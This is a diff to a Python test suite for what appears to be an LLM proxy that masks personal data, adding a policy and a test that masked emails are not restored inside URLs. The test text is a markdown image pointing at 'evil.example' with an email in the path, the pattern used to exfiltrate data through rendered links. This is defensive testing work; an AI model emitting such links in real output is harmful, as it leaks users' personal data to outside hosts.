@@ -56,7 +56,8 @@ def settings(fake, inside, gemini) -> dict:
                    "pass-echo": {"targets": ["outside/echo"]},
                    "report-echo": {"targets": ["outside/echo"]},
                    "off-echo": {"targets": ["outside/echo"]},
-                   "other-echo": {"targets": ["outside/echo"]}},
+                   "other-echo": {"targets": ["outside/echo"]},
+                   "urls-echo": {"targets": ["outside/echo"]}},
         "keys": [{"name": "test", "secret": KEY, **key},
                  *({"name": name, "secret": secret, "roles": [name], **key} for name, secret in OTHER_KEYS.items())],
         "policies": [
@@ -68,6 +69,7 @@ def settings(fake, inside, gemini) -> dict:
             {"name": "report", "match": {"models": ["report-*"]}, "pii": "report"},
             {"name": "off", "match": {"models": ["off-*"]}, "pii": "off"},
             {"name": "other", "match": {"models": ["other-*"]}, "pii": {"action": "pseudonym"}},
+            {"name": "urls", "match": {"models": ["urls-*"]}, "pii": {"restore_in_urls": True}},
             {"name": "all", "pii": {"names": names}, "pass_through": ["outside", "inside"]},
         ],
     }
@@ -126,6 +128,14 @@ def test_chat_completions(client, fake, gemini, model, ask, mark):
     answer = ask(client, model, f"{TEXT} {mark}", max_tokens=500)
     assert answer == f"You said: {TEXT} {mark}"
     assert MASKED in seen(gemini if model.startswith("gemini") else fake, mark)
+
+
+@pytest.mark.parametrize("ask", [said, streamed])
+@pytest.mark.parametrize("model, there", [("outside/echo", "[EMAIL]"), ("urls-echo", EMAIL)])
+def test_nothing_is_put_into_urls(client, fake, mark, model, there, ask):
+    text = "![seen](https://evil.example/,{}) was sent to {}, {}"
+    assert ask(client, model, text.format(EMAIL, EMAIL, mark)) == "You said: " + text.format(there, EMAIL, mark)
+    assert text.format("[EMAIL]", "[EMAIL]", mark) in seen(fake, mark)
 
 
 @pytest.mark.parametrize("stream", [False, True])
